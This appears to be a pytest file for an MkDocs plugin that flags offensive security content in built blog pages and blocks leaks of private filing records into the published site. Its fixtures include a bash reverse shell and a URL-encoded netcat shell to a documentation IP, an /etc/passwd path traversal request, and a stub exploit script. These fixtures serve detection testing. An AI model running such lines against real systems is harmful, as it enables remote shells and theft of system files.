"""The second and the third look: what only a build shows, what gives the ledger away, the manifest."""

from __future__ import annotations

import hashlib
import json
import re
from pathlib import Path

import pytest
from blog import CONFIG, HANGZHOU, NOTHING, Blog, Found
from carriers import passage

from mkdocs_threatgate.looking.novelty import added, is_fresh, pieces, unseen_blocks
from mkdocs_threatgate.model import Rendering
from mkdocs_threatgate.sources.hypertext import as_markdown, breaks_words, shown_lines, squeeze
from mkdocs_threatgate.sources.site import Output, contents, page_address, read_output

SNIPPETS = """\
markdown_extensions:
  - pymdownx.snippets:
      base_path: [includes]
"""
INCLUDE = '--8<-- "steps.md"\n'


def including(root: Path, config: str = f"{CONFIG}{SNIPPETS}") -> Blog:
    blog = Blog(root).start(config)
    for name in ("a.md", "b.md"):
        blog.post(name, declaration=NOTHING, body=INCLUDE)
    blog.write("includes/steps.md", f"Notes.\n\n{passage(1)}\n")
    blog.commit()
    return blog


@pytest.mark.matrix
def test_a_snippet_on_two_pages_is_one_finding_in_its_own_file(tmp_path: Path) -> None:
    blog = including(tmp_path / "blog")
    assert blog.check().code == 0
    built = blog.build("--quiet")
    assert (built.code, built.shown) == (1, [Found("TG403", "includes/steps.md", 3)])
    assert "readers see it in docs/blog/posts/a.md, docs/blog/posts/b.md" in built.err
    assert "nothing was published and the earlier site is as it was: includes/steps.md" in built.err


def test_what_only_a_build_shows_can_be_dismissed_on_the_record(tmp_path: Path) -> None:
    blog = including(tmp_path / "blog").signed("liu@example.com")
    blog.commit()
    told = re.search(
        r"next: (threatgate dismiss includes/steps.md r[0-9a-f]{15} --rule TG403)", blog.build().err
    )
    assert told is not None
    refused = blog.run(f"{told[1].replace('TG403', 'TG201')} --reason checked --until 2099-01-01")
    assert (refused.code, "is nothing that a build tells" in refused.err) == (2, True)
    assert blog.run(f"{told[1]} --reason 'our own laboratory' --until 2099-01-01").code == 0
    blog.commit()
    built = blog.build()
    assert (built.code, "Dismissed by liu@example.com" in built.err) == (0, True)
    checked = blog.check()
    assert (checked.code, checked.notices) == (0, [])
    blog.write("includes/steps.md", f"{passage(2)}\n")
    assert blog.build("--quiet").code == 1


def test_what_the_sources_hold_is_not_told_again(tmp_path: Path) -> None:
    blog = Blog(tmp_path / "blog").start()
    body = (
        "**Bold** text, a [link](https://example.com/), `code`, a table.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    )
    blog.post(declaration=NOTHING, body=body)
    blog.commit()
    built = blog.build()
    assert (built.code, re.findall(r"TG\d{3}", built.err)) == (0, [])


FENCED = """\
The request `bash -i >& /dev/tcp/203.0.113.7/4444` is bash -i \\>& /dev/tcp/203.0.113.7/4444

## Exploiting the demo parser

### Proof of Concept

```http
POST /demo/path?name=../../../../etc/passwd HTTP/1.1
Host: target.example.com
```

- [a demo tool](https://example.com/tool) - A tool that helps you launch attacks on the demo parser of others
- [another one](https://example.com/other) - A tool of the same kind
"""
"""What reads otherwise on the page in its marks alone: an escape, the fence of code, a link before words."""


def test_what_was_dismissed_is_not_told_again_for_the_marks_of_its_markdown(tmp_path: Path) -> None:
    blog = Blog(tmp_path / "blog").start().signed("liu@example.com")
    path = blog.post(declaration=NOTHING, body=FENCED)
    blog.commit()
    (found,) = blog.check().report["findings"]
    assert found["rule"] == "TG403"
    told = blog.threatgate("dismiss", path, found["fingerprint"], "--reason", "ours", "--until", "2099-01-01")
    assert told.code == 0, told.err
    blog.commit()
    built = blog.build("--quiet")
    assert (built.code, built.shown) == (0, []), built.err


SCRIPT = """\
Notes.

```python
import requests, sys, time, json, re
def exploit(target):
    payload = "demo"
    requests.post(target + payload)
    print("[+] pwned")
```
"""
ANOTHER = """\
<pre><code>import requests, sys, time, json, re
def attack(target):
    shellcode = 'other'
    requests.put(target, shellcode)
    print('[+] vulnerable')</code></pre>
"""
"""Other code than the script, with the same first line."""


def test_code_that_begins_like_what_was_dismissed_is_told_if_it_goes_on_otherwise(tmp_path: Path) -> None:
    blog = Blog(tmp_path / "blog").start(f"{CONFIG}hooks: [hook.py]\n").signed("liu@example.com")
    path = blog.post(declaration=NOTHING, body=SCRIPT)
    blog.write("hook.py", "")
    blog.commit()
    (found,) = blog.check().report["findings"]
    told = blog.threatgate("dismiss", path, found["fingerprint"], "--reason", "ours", "--until", "2099-01-01")
    assert told.code == 0, told.err
    blog.commit()
    assert blog.build("--quiet").shown == []
    blog.write("hook.py", f"def on_page_content(html, **_):\n    return html + {ANOTHER!r}\n")
    blog.commit()
    built = blog.build("--quiet")
    assert (built.code, [one.rule for one in built.shown]) == (1, ["TG403"]), built.err


def test_a_title_that_a_hook_gives_a_page_must_be_declared(tmp_path: Path) -> None:
    blog = Blog(tmp_path / "blog").start(f"{CONFIG}hooks: [hook.py]\n")
    blog.post(declaration=NOTHING)
    blog.write(
        "hook.py", "def on_page_content(html, page, **_):\n    page.title = '杭州某水务公司遭勒索攻击始末'\n"
    )
    blog.commit()
    built = blog.build("--quiet")
    assert (built.code, [one.rule for one in built.shown]) == (1, ["TG105"])


# --- what must not be in the output ----------------------------------------------------------------

NUMBER = "杭公网安〔2026〕117号"


def filed(root: Path, hook: str, config: str = CONFIG) -> Blog:
    blog = Blog(root).start(f"{config}hooks: [hook.py]\n")
    digest = hashlib.sha256(b"evidence").hexdigest()
    blog.post(declaration=f"{HANGZHOU}\nfilings: [2026-aaaaaa]")
    blog.write("filings/2026/2026-aaaaaa.submission.pdf", b"evidence")
    document = f'{{path: 2026-aaaaaa.submission.pdf, sha256: "{digest}", role: submission}}'
    blog.receipt(extra=f"number: {NUMBER}\nevidence: [{document}]")
    blog.write("hook.py", f"import json, shutil\nfrom pathlib import Path\n{hook}")
    blog.commit()
    return blog


def late(line: str) -> str:
    return f"def on_post_build(config):\n    Path(config.site_dir, 'x.json').write_text({line})\n"


PRINTING = "def on_post_page(output, page, **_):\n    return output.replace('</body>', {} + '</body>')\n"
LEAKS = {
    "the number of the receipt 2026-aaaaaa": late(f"json.dumps({{'n': '{NUMBER}'}})"),
    "the address of who recorded 2026-aaaaaa": late("'mailto:liu@example.com'"),
    "a document of the receipt 2026-aaaaaa itself": (
        "def on_post_build(config):\n"
        "    shutil.copy('filings/2026/2026-aaaaaa.submission.pdf', Path(config.site_dir, 'x.bin'))\n"
    ),
    "the receipt 2026-aaaaaa itself": (
        "def on_post_build(config):\n"
        "    shutil.copy('filings/2026/2026-aaaaaa.yml', Path(config.site_dir, 'y.txt'))\n"
    ),
    "the “threatgate” block of a front matter": PRINTING.format("str(page.meta)"),
    "the digest of a document": late(f"'{hashlib.sha256(b'evidence').hexdigest()}'"),
}


@pytest.mark.long
@pytest.mark.parametrize("what", LEAKS)
def test_nothing_of_the_ledger_or_a_declaration_reaches_the_site(what: str, tmp_path: Path) -> None:
    blog = filed(tmp_path / "blog", LEAKS[what])
    built = blog.build("--quiet")
    assert (built.code, {one.rule for one in built.shown}) == (1, {"TG308"})
    assert what in built.err
    assert not (blog.root / "site").exists()


@pytest.mark.matrix
@pytest.mark.parametrize(
    "form", ["json.dumps(page.meta, default=str)", "Path(page.file.abs_src_path).read_text()"]
)
def test_a_block_of_front_matter_is_known_in_any_form(form: str, tmp_path: Path) -> None:
    hook = PRINTING.format(f"__import__('html').escape({form})")
    built = filed(tmp_path / "blog", hook).build("--quiet")
    assert (built.code, "the “threatgate” block of a front matter is in the output" in built.err) == (1, True)


def test_what_the_site_itself_makes_public_is_no_giveaway(tmp_path: Path) -> None:
    config = f"{CONFIG}copyright: 'Write to liu@example.com'\n"
    blog = filed(tmp_path / "blog", "", config)
    blog.write(
        "docs/how.md",
        "# How we declare\n\n```yaml\nthreatgate:\n  none: Release notes\n```\n\nFiled as " + NUMBER,
    )
    blog.commit()
    built = blog.build("--quiet")
    assert (built.code, built.err) == (0, "")


# --- the manifest ----------------------------------------------------------------------------------


@pytest.mark.matrix
def test_the_manifest_is_the_same_for_the_same_sources_and_names_what_is_published(tmp_path: Path) -> None:
    blog = filed(tmp_path / "blog", "")
    assert blog.build("--quiet").code == 0
    first = (blog.root / "site/threatgate-manifest.json").read_bytes()
    assert blog.build("--quiet", "--site-dir", "other").code == 0
    assert (blog.root / "other/threatgate-manifest.json").read_bytes() == first
    manifest = json.loads(first)
    assert manifest["schema"] == "threatgate.manifest/1"
    assert manifest["commit"] == blog.git("rev-parse", "HEAD")
    digest = hashlib.sha256((blog.root / "docs/blog/posts/a.md").read_bytes()).hexdigest()
    assert manifest["posts"] == {"docs/blog/posts/a.md": f"sha256:{digest}"}


# --- reading HTML and output -----------------------------------------------------------------------


def test_html_is_read_as_markdown_that_reads_the_same() -> None:
    markup = (
        '<h2 id="x">Steps</h2>\n<p>One <b>bold</b> &amp; <code>code</code>.</p><!-- aside -->\n'
        "<table><tr><td>a</td>\n<td>b</td></tr></table>"
        '<pre><code><span class="k">GET</span> /x\n</code></pre>'
        '<img alt="a picture" src="x.png">'
    )
    assert as_markdown(markup).split() == (
        "## Steps One bold & code. | a | b | ~~~~~~~~ GET /x ~~~~~~~~ a picture <!-- aside -->".split()  # noqa: SIM905
    )


def test_only_what_is_not_known_is_added() -> None:
    rendering = Rendering(
        "p", "p", '<p>Known words.</p>\n<p title="a new note">New words.</p>\n<p>Known words.</p>'
    )
    new = added(pieces(rendering, rendering.markup), rendering.markup, squeeze("**Known** words."))
    assert (new.lines, new.unseen) == (("New words.",), ("a new note",))


def test_a_link_within_a_word_makes_all_of_it_new() -> None:
    markup = 'mimi<a href="#">katz</a>'
    assert breaks_words(markup)
    assert not breaks_words('see <a href="#">this</a>, <code>x</code>')
    assert added(pieces(Rendering("p", "p", markup), markup), markup, "mimi[katz](#)").lines == ("mimikatz",)


def test_a_known_sentence_with_a_link_in_it_is_not_fresh() -> None:
    known = squeeze("We looked at [the report](https://example.com/) of last year and found nothing.")
    assert not is_fresh("We looked at the report of last year and found nothing.", known)
    assert is_fresh("A different sentence that nobody has read before.", known)


def test_a_block_is_seen_once_whether_lines_are_joined_or_not() -> None:
    seen: set[int] = set()
    assert unseen_blocks("<nav>\n<p>a</p>", seen) == "<nav>\n<p>a</p>"
    assert unseen_blocks("<nav>\n<p>b</p>", seen) == "<p>b</p>"
    joined = "<nav>" + "<p>word</p>" * 500
    assert unseen_blocks(joined, seen).count("word") == 1


def test_a_search_index_is_read_by_the_pages_that_it_repeats(tmp_path: Path) -> None:
    docs = [
        {"location": "a/", "title": "A", "text": "One."},
        {"location": "a/#s", "title": "S", "text": "Two."},
        {"location": "two%20words/#dns-exfiltration", "title": "T", "text": "Three."},
    ]
    (tmp_path / "search").mkdir()
    (tmp_path / "search/search_index.json").write_text(json.dumps({"config": {"lang": ["en"]}, "docs": docs}))
    (output,) = read_output(tmp_path)
    held = {address: one.markup.split("\n") for address, one in contents(output, "site/x").texts}
    assert held == {
        "a/index.html": ["location", "title", "A", "text", "One.", "location", "title", "S", "text", "Two."],
        "two words/index.html": ["location", "title", "T", "text", "Three."],
        "index.html": ["config", "lang", "en"],
    }
    assert [page_address(one) for one in ("", "a/", "a.html")] == ["index.html", "a/index.html", "a.html"]


def test_words_joined_by_percent_signs_are_no_address_but_in_a_search_index() -> None:
    said = "nc%20-e%20/bin/sh%20203.0.113.7%204444"
    data = json.dumps({"a": said, "b": "one/two/#three"}).encode()
    ((_, rendering),) = contents(Output("a.json", data, len(data)), "site/a.json").texts
    assert rendering.markup.split("\n") == ["a", said, "b"]
    data = json.dumps({"docs": [{"location": f"a/#{said}"}]}).encode()
    held = contents(Output("search/search_index.json", data, len(data)), "site/x").texts
    assert dict(held)["a/index.html"].markup.split("\n") == ["location", f"a/#{said}"]


def test_hostile_markup_takes_time_in_proportion() -> None:
    for markup in (
        "<" * 200_000,
        "<!--" * 50_000,
        '="' * 100_000,
        "<p" + " a" * 100_000,
        "<![CDATA[" * 20_000,
    ):
        assert shown_lines(markup) is not None
        assert added(pieces(Rendering("p", "p", markup), markup), markup, "") is not None
